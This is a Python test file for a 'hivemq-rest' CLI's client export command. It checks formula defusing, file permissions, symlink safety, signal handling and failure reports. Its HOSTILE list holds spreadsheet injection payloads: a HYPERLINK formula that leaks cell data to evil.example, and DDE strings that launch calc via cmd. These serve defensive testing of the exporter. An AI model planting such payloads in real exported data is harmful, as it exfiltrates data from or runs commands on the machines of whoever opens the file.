"""``clients export`` and the files it writes, through the installed entry point.

Every value in an export is chosen by a device or a broker: the files must be
safe to open in a spreadsheet, private, never written through a planted link,
exact about what they hold when the export stops (a signal, a full disk), and
what did not make it into them must be recoverable.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import selectors
import shutil
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import click
import pytest
from hivemq_rest.cli._clients import export as export_command
from hivemq_rest.cli._export import ExportStats, defused
from hivemq_rest.cli._progress import line
from hivemq_rest_emulator import EmulatorHandle
from hypothesis import given
from hypothesis import strategies as st

from tests.overlay.local_server import Behaviour, local_server

from .cli_run import run

HIVEMQ_REST = shutil.which("hivemq-rest", path=str(Path(sys.executable).parent)) or "hivemq-rest"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
JSON_TYPE = {"Content-Type": "application/json"}
FAILED_AND_VANISHED = {"b": (500, b"boom"), "c": (404, b'{"errors": [{"title": "not found"}]}')}

# Runs the command (argv[2:]) after: a umask, a file size limit (writes past it
# fail with EFBIG: Python ignores SIGXFSZ), and symlinks planted at names that
# hold "{pid}", the pid the command will have, since exec keeps it.
_LAUNCHER = """
import json, os, resource, sys
setup = json.loads(sys.argv[1])
if setup.get("umask") is not None:
    os.umask(setup["umask"])
if setup.get("fsize") is not None:
    hard = resource.getrlimit(resource.RLIMIT_FSIZE)[1]
    resource.setrlimit(resource.RLIMIT_FSIZE, (setup["fsize"], hard))
for name, target in setup.get("links", {}).items():
    os.symlink(target, name.format(pid=os.getpid()))
os.execv(sys.argv[2], sys.argv[2:])
"""


def _command(args: tuple[str, ...], **setup: Any) -> list[str]:
    return [sys.executable, "-c", _LAUNCHER, json.dumps(setup), HIVEMQ_REST, *args]


def _environment(extra: dict[str, str] | None = None) -> dict[str, str]:
    environment = {k: v for k, v in os.environ.items() if not k.startswith("HIVEMQ_REST_")}
    environment.update(extra or {})
    return environment


def export(
    *args: str, env: dict[str, str] | None = None, process: bool = False, **setup: Any
) -> subprocess.CompletedProcess[str]:
    """``hivemq-rest clients export ARGS``, no terminal, no stdin, after ``setup``.

    In this process, with the umask and links set here, unless ``process`` or
    ``fsize`` (a file size limit) asks for a process of its own (the launcher's).
    """
    if process or "fsize" in setup:
        return subprocess.run(
            _command(("clients", "export", *args), **setup),
            capture_output=True,
            text=True,
            encoding="utf-8",
            timeout=120,
            stdin=subprocess.DEVNULL,
            env=_environment(env),
        )
    for name, target in setup.get("links", {}).items():
        os.symlink(target, name.format(pid=os.getpid()))
    earlier = None if setup.get("umask") is None else os.umask(setup["umask"])
    try:
        return run("clients", "export", *args, env=env)
    finally:
        if earlier is not None:
            os.umask(earlier)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


def csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as rows:
        return list(csv.reader(rows))


@pytest.fixture
def emulator(hivemq_emulator: EmulatorHandle) -> EmulatorHandle:
    hivemq_emulator.seed(300, seed=5)
    return hivemq_emulator


def _api(details: dict[str, tuple[int, bytes]], listed: list[str]) -> Behaviour:
    """A server that lists ``listed`` and answers a details request from ``details``."""

    def api(method: str, path: str, headers: dict[str, str]) -> tuple[int, dict[str, str], bytes]:
        if path.startswith("/api/v1/mqtt/clients?"):
            items = [{"id": client_id} for client_id in listed]
            return 200, JSON_TYPE, json.dumps({"items": items}).encode()
        segment = path.rsplit("/", 1)[1]
        if segment in details:
            status, body = details[segment]
            return status, JSON_TYPE, body
        return 200, JSON_TYPE, json.dumps({"client": {"id": segment}}).encode()

    return api


def test_every_export_option_has_a_help_line() -> None:
    options = [param for param in export_command.params if isinstance(param, click.Option)]
    assert {option.name for option in options} >= {"raw_cells", "report", "output"}
    assert [option.name for option in options if not option.help] == []


# -- spreadsheet formulas ------------------------------------------------------------


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _add_hostile_sessions(emulator: EmulatorHandle) -> None:
    for number, value in enumerate(HOSTILE):
        certificate = {"commonName": value, "organization": value, "serial": value}
        emulator.add_session(
            value,
            connected=True,
            connection={
                "username": value,
                "connectedListenerId": value,
                "connectedNodeId": value,
                "sourceIp": value,
                "tlsInformation": {"cipherSuite": value, "certificateInformation": certificate},
            },
        )
        emulator.add_session(f"plain-{number}", connected=False)


def test_csv_cells_cannot_run_as_formulas(hivemq_emulator: EmulatorHandle, tmp_path: Path) -> None:
    _add_hostile_sessions(hivemq_emulator)
    url = ["--url", hivemq_emulator.base_url]
    safe, raw, exact = tmp_path / "safe.csv", tmp_path / "raw.csv", tmp_path / "exact.jsonl"
    assert export("-o", str(safe), *url).returncode == 0
    assert export("-o", str(raw), "--raw-cells", *url).returncode == 0
    assert export("-o", str(exact), "--format", "jsonl", *url).returncode == 0

    raw_rows = sorted(csv_rows(raw)[1:])
    # Rows come in the order answers arrive: sorted by the id they are for.
    safe_rows = sorted(csv_rows(safe)[1:], key=lambda row: [row[0].removeprefix("'"), *row[1:]])
    # Every cell of every column: none starts a formula, and each is the raw
    # cell with a ' before it exactly when the raw one would have.
    for safe_row, raw_row in zip(safe_rows, raw_rows, strict=True):
        for safe_cell, raw_cell in zip(safe_row, raw_row, strict=True):
            assert not safe_cell.startswith(FORMULA_STARTS)
            hostile = raw_cell.startswith(FORMULA_STARTS)
            assert safe_cell == (f"'{raw_cell}" if hostile else raw_cell)
    header = csv_rows(raw)[0]
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in raw_rows}
    for value in HOSTILE:  # --raw-cells gives the broker's values exactly, in every column
        row = by_id[value]
        assert row["username"] == row["connectedListenerId"] == row["sourceIp"] == value
        assert row["certificateCommonName"] == row["tlsCipherSuite"] == value
    assert sum(cell.startswith("'") for row in safe_rows for cell in row) >= len(HOSTILE) * 9

    bodies = [json.loads(text) for text in exact.read_text(encoding="utf-8").splitlines()]
    assert sorted(body["connection"]["username"] for body in bodies if "connection" in body) == (
        sorted(HOSTILE)
    )


@given(st.lists(st.text(max_size=6), max_size=8))
def test_defused_cells(cells: list[str]) -> None:
    result = defused(cells)
    assert len(result) == len(cells)
    for before, after in zip(cells, result, strict=True):
        assert not after.startswith(FORMULA_STARTS)
        assert after == (f"'{before}" if before.startswith(FORMULA_STARTS) else before)


def test_text_that_utf8_cannot_hold_is_escaped(tmp_path: Path) -> None:
    # JSON can carry a lone surrogate (\ud800), UTF-8 cannot: such text is
    # written as that escape, which JSON reads back as the same text.
    details = {"a": (200, b'{"client": {"id": "a", "connection": {"username": "x\\ud800"}}}')}
    api = _api(details, ["a", "\udc80"])
    csv_file, jsonl, report = tmp_path / "out.csv", tmp_path / "out.jsonl", tmp_path / "r.jsonl"
    with local_server(api) as server:
        as_csv = export("-o", str(csv_file), "--url", server.base_url)
        as_jsonl = export(
            "-o", str(jsonl), "--format", "jsonl", "--report", str(report), "--url", server.base_url
        )
    assert as_csv.returncode == as_jsonl.returncode == 8  # the lone surrogate id: not addressable
    header, row = csv_rows(csv_file)
    assert row[header.index("username")] == "x\\ud800"
    assert json.loads(jsonl.read_text(encoding="utf-8"))["connection"]["username"] == "x\ud800"
    assert [(r["clientId"], r["outcome"]) for r in _report(report)] == [("\udc80", "failed")]


# -- permissions and planted links ------------------------------------------------------


@pytest.mark.parametrize("umask", [0o000, 0o277])
def test_every_file_is_private_whatever_the_umask(
    umask: int, tmp_path: Path, emulator: EmulatorHandle
) -> None:
    # (The report's mode is checked with the report, the temporary file's with the signals.)
    output = tmp_path / "out.csv"
    done = export("-o", str(output), "--url", emulator.base_url, umask=umask)
    assert done.returncode == 0, done.stderr
    assert mode(output) == 0o600

    failing = tmp_path / "failing.csv"
    with local_server(_fatal_after(2)) as server:
        stopped = export(
            "-o", str(failing), "--concurrency", "1", "--url", server.base_url, umask=umask
        )
    assert stopped.returncode == 5
    assert mode(tmp_path / "failing.csv.partial") == 0o600


def test_planted_links_are_never_written_through(tmp_path: Path, emulator: EmulatorHandle) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    output = tmp_path / "out.csv"
    output.symlink_to(victim)
    # A dangling link would create its target if followed. The pid-named
    # temporary file is what a predictable temporary name would be.
    created = tmp_path / "created-through-a-link"
    links = {str(tmp_path / ".out.csv.{pid}.tmp"): str(created)}
    done = export("-o", str(output), "--url", emulator.base_url, links=links)
    assert done.returncode == 0, done.stderr
    assert victim.read_text() == "precious\n"
    assert not created.exists()
    assert not output.is_symlink()  # the link itself was replaced
    assert mode(output) == 0o600
    assert len(csv_rows(output)) == 1 + 300

    # The partial files' names: taken by links, dangling or not, they are skipped.
    failing = tmp_path / "failing.csv"
    (tmp_path / "failing.csv.partial").symlink_to(victim)
    (tmp_path / "failing.csv.partial.1").symlink_to(created)
    with local_server(_fatal_after(2)) as server:
        stopped = export("-o", str(failing), "--concurrency", "1", "--url", server.base_url)
    assert stopped.returncode == 5
    kept = tmp_path / "failing.csv.partial.2"
    assert f"2 rows kept in {kept}" in stopped.stderr
    assert not kept.is_symlink()
    assert [row[0] for row in csv_rows(kept)] == ["clientId", "a", "b"]
    assert victim.read_text() == "precious\n"
    assert not created.exists()


@pytest.mark.parametrize("option", ["-o", "--report"])
def test_a_file_that_is_not_regular_is_left_alone(option: str, tmp_path: Path) -> None:
    # As /dev/null or /dev/stdout would be: the export's rename would replace them.
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    output = [] if option == "-o" else ["-o", str(tmp_path / "out.csv")]
    with local_server(_api({}, ["a"])) as server:
        result = export(*output, option, str(fifo), "--url", server.base_url)
    assert result.returncode == 9
    assert f"cannot write {fifo}: not a regular file" in result.stderr
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["fifo"]


def _fatal_after(rows: int) -> Behaviour:
    """A server that lists five clients, then refuses (401) every detail after ``rows``."""
    answered: list[str] = []

    def api(method: str, path: str, headers: dict[str, str]) -> tuple[int, dict[str, str], bytes]:
        if path.startswith("/api/v1/mqtt/clients?"):
            items = [{"id": client_id} for client_id in "abcde"]
            return 200, JSON_TYPE, json.dumps({"items": items}).encode()
        if len(answered) >= rows:
            return 401, JSON_TYPE, b'{"errors": [{"title": "Unauthorized"}]}'
        answered.append(path)
        return 200, JSON_TYPE, json.dumps({"client": {"id": path[-1]}}).encode()

    return api


# -- signals ----------------------------------------------------------------------------


def _temporary_files(directory: Path) -> list[Path]:
    return [path for path in directory.iterdir() if path.name.endswith(".tmp")]


def _wait_for_rows(directory: Path) -> Path:
    """The export's temporary file, once it holds some rows (bounded polling)."""
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        for path in _temporary_files(directory):
            if path.stat().st_size > 0:
                return path
        time.sleep(0.02)
    raise AssertionError("the export wrote no rows within 60 s")


@pytest.mark.slow
@pytest.mark.parametrize(
    ("signum", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143), (signal.SIGHUP, 129)]
)
def test_a_stop_signal_keeps_the_rows_written(
    signum: signal.Signals, code: int, hivemq_emulator: EmulatorHandle, tmp_path: Path
) -> None:
    hivemq_emulator.seed(1_200, seed=11)
    output = tmp_path / "out.csv"
    args = ("clients", "export", "-o", str(output), "--rate", "150")
    process = subprocess.Popen(
        _command((*args, "--url", hivemq_emulator.base_url), umask=0),
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=_environment(),
    )
    try:
        temporary = _wait_for_rows(tmp_path)
        assert temporary.parent == tmp_path
        assert str(process.pid) not in temporary.name  # not a name to guess
        assert mode(temporary) == 0o600
        process.send_signal(signum)
        _, stderr = process.communicate(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()
            process.communicate(timeout=10)
    assert process.returncode == code, stderr
    partial = tmp_path / "out.csv.partial"
    rows = csv_rows(partial)[1:]
    assert 0 < len(rows) < 1_200
    assert stderr.splitlines() == [
        f"export interrupted by {signum.name}; {len(rows):,} rows kept in {partial}"
    ]
    assert sorted(path.name for path in tmp_path.iterdir()) == ["out.csv.partial"]
    assert mode(partial) == 0o600


@pytest.mark.slow
def test_a_stop_signal_during_an_export_to_standard_output(
    hivemq_emulator: EmulatorHandle, tmp_path: Path
) -> None:
    hivemq_emulator.seed(1_200, seed=11)
    args = ("clients", "export", "-o", "-", "--rate", "150", "--url", hivemq_emulator.base_url)
    process = subprocess.Popen(
        [HIVEMQ_REST, *args],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=_environment(),
        cwd=tmp_path,
    )
    try:
        assert process.stdout is not None
        with selectors.DefaultSelector() as selector:  # wait for rows, for 60 s at most
            selector.register(process.stdout, selectors.EVENT_READ)
            assert selector.select(timeout=60), "the export wrote no rows within 60 s"
        process.send_signal(signal.SIGTERM)
        stdout, stderr = process.communicate(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()
            process.communicate(timeout=10)
    assert process.returncode == 143, stderr
    rows = list(csv.reader(io.StringIO(stdout.decode("utf-8"), newline="")))[1:]
    assert 0 < len(rows) < 1_200
    assert stderr.decode().splitlines() == [
        f"export interrupted by SIGTERM; {len(rows):,} rows written to standard output"
    ]
    assert list(tmp_path.iterdir()) == []  # no file named "-", no temporary file


# -- exact counts -----------------------------------------------------------------------


@pytest.mark.slow
def test_rows_kept_are_the_rows_on_disk_when_the_disk_fills(
    hivemq_emulator: EmulatorHandle, tmp_path: Path
) -> None:
    hivemq_emulator.seed(1_200, seed=11)
    url = ["--url", hivemq_emulator.base_url]
    complete = tmp_path / "complete.csv"
    assert export("-o", str(complete), *url).returncode == 0
    full_rows = {row[0]: row for row in csv_rows(complete)[1:]}

    # A file size limit in the export's process: its writes past 100 kB fail
    # (EFBIG) as they would on a full disk, for root too.
    output = tmp_path / "out.csv"
    result = export("-o", str(output), *url, fsize=100_000)
    assert result.returncode == 9, result.stderr
    partial = tmp_path / "out.csv.partial"
    kept = csv_rows(partial)[1:]
    assert f"export stopped; {len(kept):,} rows kept in {partial}" in result.stderr
    assert "File too large" in result.stderr
    assert 0 < len(kept) < len(full_rows)
    assert all(row == full_rows[row[0]] for row in kept)  # whole rows only, the last one too
    assert partial.stat().st_size <= 100_000
    assert sorted(path.name for path in tmp_path.iterdir()) == ["complete.csv", "out.csv.partial"]


# -- what did not make it into the export -------------------------------------------------


def _report(path: Path) -> list[dict[str, Any]]:
    return [json.loads(text) for text in path.read_text(encoding="utf-8").splitlines()]


def test_report_lists_failed_and_vanished_ids(tmp_path: Path) -> None:
    api = _api(
        {"b": (500, b"boom"), "c": (404, b'{"errors": [{"title": "not found"}]}')}, list("abcd")
    )
    output, report = tmp_path / "out.csv", tmp_path / "report.jsonl"
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    report.symlink_to(victim)  # replaced, never written through
    with local_server(api) as server:
        without = export("-o", str(output), "--url", server.base_url)
        listed = export("-o", str(output), "--report", str(report), "--url", server.base_url)
    assert without.returncode == listed.returncode == 8
    assert "exported 2, vanished 1, failed 1" in without.stderr
    assert "2 ids are not in the export: --report FILE lists them" in without.stderr
    assert f"2 ids are not in the export: listed in {report}" in listed.stderr
    (vanished, failed) = _report(report)
    assert vanished == {"clientId": "c", "outcome": "vanished", "error": None}
    assert failed["clientId"] == "b"
    assert failed["outcome"] == "failed"
    assert "500" in failed["error"]
    assert mode(report) == 0o600
    assert victim.read_text() == "precious\n"


def test_report_of_an_export_that_stopped(tmp_path: Path) -> None:
    unauthorized = (401, b'{"errors": [{"title": "Unauthorized"}]}')
    api = _api({"b": (500, b"boom"), "d": unauthorized, "e": unauthorized}, list("abcde"))
    report = tmp_path / "report.jsonl"
    with local_server(api) as server:
        command = ["-o", str(tmp_path / "out.csv"), "--report", str(report), "--concurrency", "1"]
        result = export(*command, "--url", server.base_url)
    assert result.returncode == 5
    assert [record["clientId"] for record in _report(report)] == ["b"]
    assert f"2 rows kept in {tmp_path / 'out.csv.partial'}" in result.stderr


def test_report_of_a_complete_export_is_empty(tmp_path: Path, emulator: EmulatorHandle) -> None:
    report = tmp_path / "report.jsonl"
    report.write_text("an earlier run's report\n")
    result = export(
        "-o", str(tmp_path / "out.csv"), "--report", str(report), "--url", emulator.base_url
    )
    assert result.returncode == 0, result.stderr
    assert report.read_text() == ""
    assert "--report" not in result.stderr


def _proxy_rejecting_encoded_slashes(listed: list[str]) -> Behaviour:
    """A reverse proxy that answers 404 itself for any path holding %2F."""
    behind = _api({}, listed)

    def proxy(
        method: str, path: str, headers: dict[str, str]
    ) -> tuple[int, dict[str, str], bytes] | None:
        if "%2F" in path.upper():
            return 404, {"Content-Type": "text/html"}, b"<html>404 Not Found</html>"
        return behind(method, path, headers)

    return proxy


@pytest.mark.parametrize(
    ("listed", "code", "warned"),
    [
        (["a/1", "a/2", "a/3", "b"], 8, True),  # three of four: more than half
        (["a/1", "a/2", "b", "c"], 0, False),  # half: a warning would cry wolf
    ],
)
def test_most_ids_vanishing_is_an_incomplete_export(
    listed: list[str], code: int, warned: bool, tmp_path: Path
) -> None:
    report = tmp_path / "report.jsonl"
    with local_server(_proxy_rejecting_encoded_slashes(listed)) as server:
        command = ["-o", str(tmp_path / "out.csv"), "--report", str(report)]
        result = export(*command, "--url", server.base_url)
    assert result.returncode == code, result.stderr
    assert ("%2F" in result.stderr) is warned
    assert ("warning:" in result.stderr) is warned
    vanished = sorted(record["clientId"] for record in _report(report))
    assert vanished == sorted(client_id for client_id in listed if "/" in client_id)


def test_export_to_standard_output(emulator: EmulatorHandle) -> None:
    result = export("-o", "-", "--url", emulator.base_url)
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    assert sorted(row[0] for row in rows[1:]) == sorted(emulator.store.ids())
    assert result.stderr == "exported 300, vanished 0, failed 0 -> standard output\n"
    jsonl = export("-o", "-", "--format", "jsonl", "--url", emulator.base_url)
    ids = [json.loads(text)["id"] for text in jsonl.stdout.splitlines()]
    assert sorted(ids) == sorted(emulator.store.ids())


@pytest.mark.slow
def test_export_to_a_terminal_is_refused() -> None:
    # Raw device data would drive the terminal; a file named "-" is still possible.
    controller, terminal = pty.openpty()
    try:
        result = subprocess.run(
            [HIVEMQ_REST, "clients", "export", "-o", "-", "--url", "http://127.0.0.1:9"],
            stdin=subprocess.DEVNULL,
            stdout=terminal,
            stderr=subprocess.PIPE,
            text=True,
            timeout=60,
            env=_environment(),
        )
    finally:
        os.close(terminal)
        os.close(controller)
    assert result.returncode == 2
    assert "pipe it" in result.stderr


def test_replacing_an_existing_file_is_said(tmp_path: Path, emulator: EmulatorHandle) -> None:
    output = tmp_path / "out.csv"
    first = export("-o", str(output), "--url", emulator.base_url)
    second = export("-o", str(output), "--url", emulator.base_url)
    assert first.returncode == second.returncode == 0
    assert "replaced" not in first.stderr
    assert second.stderr.splitlines() == [
        f"exported 300, vanished 0, failed 0 -> {output} (replaced the file that was there)"
    ]


# -- progress ---------------------------------------------------------------------------


def test_progress_line_while_listing_and_after() -> None:
    stats = ExportStats(started=100.0, listed=5_000, exported=900)
    stats.vanished += ["v1", "v2"]
    listing = [" ".join(text.split()) for text in line(stats, now=110.0).plain.splitlines()]
    # 902 done in 10 s; 4,098 listed ids to go: at least 45 s; the listing at 500 ids/s.
    assert listing == [
        "listed 5,000 fetched 900 vanished 2 failed 0",
        "90/s ETA at least 45s (still listing, 500 ids/s)",
    ]
    stats.listing_done, stats.listing_seconds = True, 4.0
    assert " ".join(line(stats, now=110.0).plain.splitlines()[1].split()) == "90/s ETA 45s"
    assert all(len(text) <= 80 for text in line(stats, now=110.0).plain.splitlines())


@pytest.mark.slow
def test_progress_shows_failed_and_vanished_on_a_terminal(tmp_path: Path) -> None:
    api = _api(
        {"b": (500, b"boom"), "c": (404, b'{"errors": [{"title": "not found"}]}')}, list("abcd")
    )
    with local_server(api) as server:
        result = export(  # FORCE_COLOR is read when the process starts
            "-o",
            str(tmp_path / "out.csv"),
            "--url",
            server.base_url,
            env={"FORCE_COLOR": "1"},
            process=True,
        )
    assert result.returncode == 8
    assert "vanished      1  failed      1" in result.stderr
